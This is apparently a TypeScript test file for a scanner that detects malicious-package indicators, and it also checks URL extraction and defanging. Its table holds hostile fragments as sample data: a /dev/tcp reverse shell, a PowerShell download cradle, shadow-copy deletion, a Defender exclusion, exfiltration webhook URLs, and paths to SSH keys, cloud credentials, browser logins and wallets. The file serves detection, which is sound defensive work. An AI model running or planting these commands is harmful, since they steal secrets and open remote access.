import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import {
  defang,
  type IndicatorKind,
  indicatorKinds,
  indicatorsOf,
  isPublicAddress,
  urlsOf,
} from '../../src/indicators/index.ts'

/** Every text, and the kinds that it names, in order of place. */
const table: readonly (readonly [text: string, ...kinds: IndicatorKind[]])[] = [
  ['https://discord.com/api/webhooks/1/x', 'webhook'],
  ['https://ptb.discord.com/api/webhooks/1/x', 'webhook'],
  ['https://api.telegram.org/bot1:x/sendMessage', 'messenger-api'],
  ['https://pastebin.com/raw/x', 'paste-host'],
  ['pastebin.company'],
  ['notpastebin.com'],
  ['pastebin.com.example.invalid'],
  ['a.b.oastify.com', 'request-bin'],
  ['0.tcp.ngrok.io', 'tunnel'],
  ['http://203.0.113.7:8080/x', 'ip-address'],
  ['http://0xcb007107/x', 'ip-address'],
  ['http://127.0.0.1:8080/x'],
  ['http://192.168.1.2/x'],
  ['203.0.113.7', 'ip-address'],
  ['version 203.0.113.7 of it'],
  ['https://files.example.top/a', 'odd-domain'],
  ['http://169.254.169.254/latest', 'cloud-metadata'],
  ['http://abcdefghij.onion/', 'onion'],
  ['C:\\Users\\x\\.ssh\\id_rsa', 'secret-file', 'secret-file'],
  ['C:\\\\Users\\\\x\\\\.aws\\\\credentials', 'secret-file'],
  ['.env', 'secret-file'],
  ['os.env'],
  ['.environment'],
  ['~/.config/google-chrome/Default', 'browser-data'],
  ['\\Google\\Chrome\\User Data\\Default\\Login Data', 'browser-data', 'browser-data', 'browser-data'],
  ['SELECT origin_url FROM logins', 'browser-data'],
  ['AppData/Roaming/discord/Local Storage/leveldb', 'messenger-data', 'messenger-data'],
  ['a/Exodus/exodus.wallet', 'wallet', 'wallet'],
  ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'autostart', 'autostart'],
  ['schtasks /create /tn x', 'schedule'],
  ['~/.bashrc', 'shell-start'],
  ['site-packages/x.pth', 'python-start'],
  ['.cursor/mcp.json', 'agent-file'],
  ['CLAUDE.md', 'agent-file'],
  ['C:\\x\\setup.exe', 'executable-name'],
  ['AWS_SECRET_ACCESS_KEY', 'credential-variable'],
  ['MY_AWS_SECRET_ACCESS_KEY_2'],
  ['[\\w-]{24}\\.[\\w-]{6}', 'token-pattern', 'token-pattern', 'token-pattern'],
  ['^bc1[a-z0-9]{20,}', 'address-pattern'],
  [`0x${'a1'.repeat(20)}`, 'address-pattern'],
  ['abcdefghijklmnopabcdefghijklmnop', 'browser-extension'],
  ['stratum+tcp://pool.example.invalid', 'miner'],
  ['vssadmin delete shadows', 'destructive-command'],
  ['all your files have been encrypted', 'ransom-words'],
  ['bash -i >& /dev/tcp/x/1', 'reverse-shell', 'reverse-shell'],
  ['Add-MpPreference -ExclusionPath x', 'disables-security', 'disables-security'],
  ['iwr -useb x | iex', 'download-cradle', 'download-cradle'],
  ['whoami', 'system-probe'],
  ['a dummy package', 'placeholder-words'],
  ['bug bounty', 'research-words'],
  ['os_crypt', 'browser-data'],
]

test('texts are read for what they name, by themselves and not as parts of other names', () => {
  for (const [text, ...kinds] of table) {
    assert.deepEqual(
      indicatorsOf(text)
        .map((indicator) => indicator.kind)
        .sort(),
      [...kinds].sort(),
      text,
    )
  }
})

test('the value stands in the text where the indicator says, or around it', () => {
  for (const [text] of table) {
    for (const { value, at } of indicatorsOf(text)) {
      assert.ok(text.includes(value), `${text}: ${value}`)
      assert.ok(at >= text.indexOf(value) && at < text.length, `${text}: ${at}`)
    }
  }
})

test('any text gives indicators of known kinds, and the same ones behind other text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...table), (noise, [text, ...kinds]) => {
      const found = indicatorsOf(`${noise} "${text}"`).map((indicator) => indicator.kind)
      assert.ok(found.every((kind) => indicatorKinds.includes(kind)))
      const whole = new Set<IndicatorKind>(['ip-address', 'address-pattern', 'browser-extension'])
      for (const kind of kinds) assert.ok(whole.has(kind) || found.includes(kind), kind)
    }),
  )
})

test('megabytes of near misses are read in one pass', () => {
  for (const unit of ['://', '/', '\\', '.ss', 'discord.com/api/webhook ', 'a'.repeat(100)]) {
    assert.ok(indicatorsOf(unit.repeat(2_000_000 / unit.length)).length <= 2000)
  }
})

test('addresses are public or not', () => {
  for (const address of ['203.0.113.7', '45.9.1.1', '0x2d090101', '755564801'])
    assert.ok(isPublicAddress(address), address)
  for (const address of [
    '127.0.0.1',
    '10.1.1.1',
    '172.20.0.1',
    '192.168.0.1',
    '8.8.8.8',
    '300.1.1.1',
    '1.2.3',
    'x',
    '2130706433',
  ]) {
    assert.ok(!isPublicAddress(address), address)
  }
})

test('URLs end where texts end them', () => {
  assert.deepEqual(urlsOf('see (https://example.invalid/a), "http://b.example.invalid:80/?q=1"; ftp://c'), [
    'https://example.invalid/a',
    'http://b.example.invalid:80/?q=1',
    'ftp://c',
  ])
})

test('evidence is one harmless line', () => {
  assert.equal(defang('get("https://a.example.invalid/x")'), 'get("hxxps[://]a[.]example[.]invalid/x")')
  assert.equal(defang('203.0.113.7:80'), '203[.]0[.]113[.]7:80')
  assert.equal(defang('a\n  b\u202e\u0007\u200b'), 'a ⏎ b\\u{202e}\\u{7}\\u{200b}')
  assert.equal(defang('x'.repeat(1000), 10), `${'x'.repeat(10)}… (990 more)`)
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
      const shown = defang(text)
      assert.ok(shown.length < 300)
      assert.doesNotMatch(shown, /[\p{Cc}\p{Cf}\p{Cs}]|https?:\/\//u)
    }),
  )
})
